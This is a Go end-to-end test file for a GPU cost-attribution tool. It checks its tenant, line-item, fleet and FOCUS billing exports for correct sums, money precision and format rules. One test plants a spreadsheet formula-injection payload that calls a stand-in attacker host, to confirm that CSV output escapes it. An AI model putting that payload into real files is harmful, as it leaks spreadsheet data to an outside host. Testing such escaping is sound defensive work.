package e2e

import (
	"bytes"
	"context"
	"encoding/json"
	"math"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/slicemeter/slicemeter/attribution/focus"
	"github.com/slicemeter/slicemeter/attribution/focus/focustest"
	"github.com/slicemeter/slicemeter/attribution/report"
	"github.com/slicemeter/slicemeter/deploy/local/localtest"
	"github.com/slicemeter/slicemeter/e2e/apptest"
)

// TestReportLineItemsAndFOCUS runs the demo on a public scenario into ClickHouse, then the
// report command's finance outputs from it: the line items (--by allocation) sum to the tenant
// report's cost per tenant, and the FOCUS export (CSV on stdout, Parquet, the metadata file),
// 1.3 by default and 1.2 with --focus.version 1.2, bills each tenant its report's cost and list
// cost, keeps its version's rules (focustest.Check13, Check12, CheckMetadata13) with money at
// focus.MoneyScale, holds the same rows in Parquet (money as DECIMAL) and passes the FOCUS
// validator; --focus.version 1.4 is a usage error.
//
//	go test -count=1 -run TestReportLineItemsAndFOCUS ./e2e/
func TestReportLineItemsAndFOCUS(t *testing.T) {
	t.Parallel()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
	defer cancel()
	file := filepath.Join(scenarios, "mig-basic.yaml")
	sc := loadScenario(t, file)
	dsn := localtest.Database(t, localtest.DatabaseOptions{Unmigrated: true}).DSN
	apptest.Demo(t, ctx, "--no-attribution.store-minutes", "--scenario", file, "--fast", "--clickhouse.dsn", dsn, "--web.listen-address", "127.0.0.1:0", "--report", filepath.Join(t.TempDir(), "r.csv"))
	window := scenarioWindow(file, sc)

	tenants := parseCSV(t, apptest.Report(t, ctx, dsn, window...).Stdout)
	sums := func(rows [][]string, tenantCol, col string) map[string]float64 {
		i, k := slices.Index(rows[0], col), slices.Index(rows[0], tenantCol)
		out := map[string]float64{}
		for _, r := range rows[1:] {
			v, err := strconv.ParseFloat(r[i], 64)
			if err == nil {
				out[r[k]] += v
			}
		}
		return out
	}
	cost, list := sums(tenants, "tenant", "cost"), sums(tenants, "tenant", "list_cost")
	delete(cost, "__unallocated__")
	delete(list, "__unallocated__")
	if len(cost) == 0 {
		t.Fatalf("no tenant in the report:\n%v", tenants)
	}
	near := func(what string, got, want map[string]float64, tol float64) {
		t.Helper()
		for tenant, w := range want {
			if math.Abs(got[tenant]-w) > tol {
				t.Errorf("%s of %s: %.6f, the tenant report's %.6f", what, tenant, got[tenant], w)
			}
		}
		if len(got) != len(want) {
			t.Errorf("%s: tenants %v, the report's %v", what, got, want)
		}
	}

	items := parseCSV(t, apptest.Report(t, ctx, dsn, append(window, "--by", "allocation")...).Stdout)
	near("Σ line items' cost", sums(items, "tenant", "cost"), cost, float64(len(items))*5e-7)

	// FOCUS 1.3 by default, 1.2 with --focus.version 1.2: each version's rules, its metadata,
	// the money at focus.MoneyScale, and focus-validator 1.0 (the FOCUS 1.0 rules) on both.
	for _, tc := range []struct {
		version string
		args    []string
		check   func(testing.TB, [][]string)
	}{
		{"1.3", nil, focustest.Check13},
		{"1.2", []string{"--focus.version", "1.2"}, focustest.Check12},
	} {
		dir := t.TempDir()
		meta := filepath.Join(dir, "focus.metadata.json")
		r := apptest.Report(t, ctx, dsn, append(append(window, "--format", "focus", "--focus.metadata", meta, "--focus.issuer", "GPU Cloud Inc."), tc.args...)...)
		rows := parseCSV(t, r.Stdout)
		near("Σ BilledCost", sums(rows, "BillingAccountId", "BilledCost"), cost, 1e-5)
		near("Σ ListCost", sums(rows, "BillingAccountId", "ListCost"), list, 1e-5)
		tc.check(t, rows)
		focustest.CheckMoneyDigits(t, rows, focus.MoneyScale, focusMoney...)
		if got, want := slices.Contains(rows[0], "AllocatedMethodId"), tc.version == "1.3"; got != want {
			t.Errorf("FOCUS %s: AllocatedMethodId in the header %v, want %v", tc.version, got, want)
		}
		b, err := os.ReadFile(meta)
		var m struct{ Schema struct{ FocusVersion string } }
		if err != nil || json.Unmarshal(b, &m) != nil || m.Schema.FocusVersion != tc.version {
			t.Errorf("metadata file: %v %+v, want FocusVersion %s", err, m, tc.version)
		}
		if tc.version == "1.3" {
			focustest.CheckMetadata13(t, b, true, false) // a report's period is not closed
		}
		csvFile := filepath.Join(dir, "focus.csv")
		if err := os.WriteFile(csvFile, []byte(r.Stdout), 0o600); err != nil {
			t.Fatal(err)
		}
		localtest.ValidateFOCUS(t, csvFile)

		pq := apptest.Report(t, ctx, dsn, append(append(window, "--format", "focus", "--focus.file-format", "parquet", "--focus.issuer", "GPU Cloud Inc."), tc.args...)...).Stdout
		if !bytes.HasPrefix([]byte(pq), []byte("PAR1")) || !bytes.HasSuffix([]byte(pq), []byte("PAR1")) {
			t.Errorf("--focus.file-format parquet: not a Parquet file (%d bytes)", len(pq))
		}
		back, err := focus.ReadParquet(strings.NewReader(pq), int64(len(pq)))
		if err != nil || len(back) != len(rows)-1 {
			t.Fatalf("FOCUS %s Parquet: %d rows (%v), the CSV's %d", tc.version, len(back), err, len(rows)-1)
		}
		for i, row := range back {
			if got := focus.Version(tc.version).Cells(row); !slices.Equal(got, rows[i+1]) {
				t.Errorf("FOCUS %s Parquet row %d %v\nCSV %v", tc.version, i, got, rows[i+1])
				break
			}
		}
		pqFile := filepath.Join(dir, "focus.parquet")
		if err := os.WriteFile(pqFile, []byte(pq), 0o600); err != nil {
			t.Fatal(err)
		}
		localtest.ValidateFOCUS(t, pqFile)
	}
	if r := apptest.Run(t, ctx, "report", "--clickhouse.dsn", dsn, "--format", "focus", "--focus.version", "1.4", "--scenario", file, "--from", "2026-01-05", "--to", "2026-01-06"); r.Code != 2 ||
		!strings.Contains(r.Stderr, "focus.version") {
		t.Errorf("--focus.version 1.4: exit %d, want 2 naming the flag\n%s", r.Code, r.Stderr)
	}
}

// focusMoney are the FOCUS money columns.
var focusMoney = []string{"BilledCost", "ContractedCost", "ContractedUnitPrice", "EffectiveCost", "ListCost", "ListUnitPrice", "x_WasteCost", "x_OverheadCost"}

// TestMoneyDigitsEveryWriter runs a public scenario through every writer of money, through
// the binary: the tenant report and the line items (CSV and JSON), the FOCUS export (CSV and
// Parquet, both versions, in TestReportLineItemsAndFOCUS), the fleet report (CSV and JSON) and
// the statement; no money field has more decimals than its contract's scale (6; FOCUS:
// focus.MoneyScale), as it is printed from a Decimal.
//
//	go test -count=1 -run TestMoneyDigitsEveryWriter ./e2e/
func TestMoneyDigitsEveryWriter(t *testing.T) {
	t.Parallel()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
	defer cancel()
	file := filepath.Join(scenarios, "mig-basic.yaml")
	sc := loadScenario(t, file)
	dsn := localtest.Database(t, localtest.DatabaseOptions{Unmigrated: true}).DSN
	// The demo stores the attributed minutes too: the fleet report reads them.
	apptest.Demo(t, ctx, "--scenario", file, "--fast", "--clickhouse.dsn", dsn, "--web.listen-address", "127.0.0.1:0", "--report", filepath.Join(t.TempDir(), "r.csv"))
	window := scenarioWindow(file, sc)
	reportMoney := []string{"list_cost", "cost", "waste_cost", "overhead_cost"}
	fleetMoney := []string{"idle_memory_cost", "revenue", "list_revenue", "operator_cost", "margin"}

	for _, by := range []string{"tenant", "allocation"} {
		focustest.CheckMoneyDigits(t, parseCSV(t, apptest.Report(t, ctx, dsn, append(window, "--by", by)...).Stdout), report.MoneyPlaces, reportMoney...)
		checkJSONMoney(t, "report --by "+by, apptest.Report(t, ctx, dsn, append(window, "--by", by, "--format", "json")...).Stdout, report.MoneyPlaces, reportMoney)
	}
	fleet := []string{"fleet", "--clickhouse.dsn", dsn, "--scenario", file, "--from", sc.Start.Format(time.RFC3339), "--to", sc.End().Format(time.RFC3339)}
	r := apptest.MustRun(t, ctx, fleet...)
	focustest.CheckMoneyDigits(t, parseCSV(t, r.Stdout), report.MoneyPlaces, fleetMoney...)
	r = apptest.MustRun(t, ctx, append(fleet, "--format", "json")...)
	checkJSONMoney(t, "fleet --format json", r.Stdout, report.MoneyPlaces, fleetMoney)

	page := apptest.MustRun(t, ctx, "statement", "--clickhouse.dsn", dsn, "--scenario", file, "--tenant", "acme", "--period", sc.Start.Format("2006-01")).Stdout
	// Every number the page shows (money, seconds, ratios; not the chart's coordinates, which
	// are inside its tags) has at most the money's decimals.
	shown := regexp.MustCompile(`<[^>]*>`).ReplaceAllString(page, " ")
	numbers := regexp.MustCompile(`\b\d+\.\d+\b`).FindAllString(shown, -1)
	if len(numbers) == 0 {
		t.Fatalf("statement: no amount in the page")
	}
	for _, n := range numbers {
		if err := focustest.MoneyDigits(n, report.MoneyPlaces); err != nil {
			t.Errorf("statement: %v", err)
		}
	}
}

// checkJSONMoney fails each money field of a JSON array of objects with more decimals than
// scale, as written (a json.Number keeps the text).
func checkJSONMoney(t *testing.T, what, out string, scale int, fields []string) {
	t.Helper()
	dec := json.NewDecoder(strings.NewReader(out))
	dec.UseNumber()
	var rows []map[string]any
	if err := dec.Decode(&rows); err != nil || len(rows) == 0 {
		t.Fatalf("%s: %d rows: %v\n%s", what, len(rows), err, out)
	}
	for _, r := range rows {
		for _, f := range fields {
			n, ok := r[f].(json.Number)
			if r[f] != nil && !ok {
				t.Errorf("%s: %s %v is no number", what, f, r[f])
			}
			if err := focustest.MoneyDigits(string(n), scale); err != nil {
				t.Errorf("%s: %s: %v", what, f, err)
			}
		}
	}
}

// TestFOCUSFormulaCells: an allocation id a spreadsheet would evaluate (here the scenario's
// name, which every allocation id of the demo starts with) comes out of `report --format
// focus` with a leading ' in x_AllocationId and ChargeDescription, as in the other CSV
// reports; the Parquet export keeps it raw.
//
//	go test -count=1 -run TestFOCUSFormulaCells ./e2e/
func TestFOCUSFormulaCells(t *testing.T) {
	t.Parallel()
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	const formula = `=HYPERLINK("http://evil.example/?x="&A2,"click")`
	file := writeFile(t, "formula.yaml", `version: 1
name: '`+formula+`'
start: "2026-01-05T00:00:00Z"
duration: 5m
interval: 1s
currency: USD
prices: {H100-SXM5-80GB: 2.40}
tiers: {pro: 1.0}
nodes:
  - name: node-a
    gpus:
      - {model: H100-SXM5-80GB}
tenants:
  - name: acme
    tier: pro
    allocations:
      - {target: node-a/gpu0, requested: 0s, ready: 5s, end: 5m, workload: {sm: 0.5, mem: 0.5}}
`)
	sc := loadScenario(t, file)
	dsn := localtest.Database(t, localtest.DatabaseOptions{Unmigrated: true}).DSN
	apptest.Demo(t, ctx, "--no-attribution.store-minutes", "--scenario", file, "--fast", "--clickhouse.dsn", dsn, "--web.listen-address", "127.0.0.1:0", "--report", filepath.Join(t.TempDir(), "r.csv"))
	window := scenarioWindow(file, sc)

	rows := parseCSV(t, apptest.Report(t, ctx, dsn, append(window, "--format", "focus")...).Stdout)
	id, desc, usage := slices.Index(rows[0], "x_AllocationId"), slices.Index(rows[0], "ChargeDescription"), 0
	for _, r := range rows[1:] {
		if r[id] == "" {
			continue
		}
		usage++
		if !strings.HasPrefix(r[id], "'"+formula) || !strings.HasPrefix(r[desc], "'"+formula) {
			t.Errorf("x_AllocationId %q, ChargeDescription %q: want both to start with '%s", r[id], r[desc], formula)
		}
	}
	if usage == 0 {
		t.Fatalf("no row with an allocation id:\n%v", rows)
	}

	pq := apptest.Report(t, ctx, dsn, append(window, "--format", "focus", "--focus.file-format", "parquet")...).Stdout
	if !strings.Contains(pq, formula+"/acme/0") || strings.Contains(pq, "'"+formula) {
		t.Errorf("the Parquet export lacks the raw allocation id %q", formula+"/acme/0")
	}
}
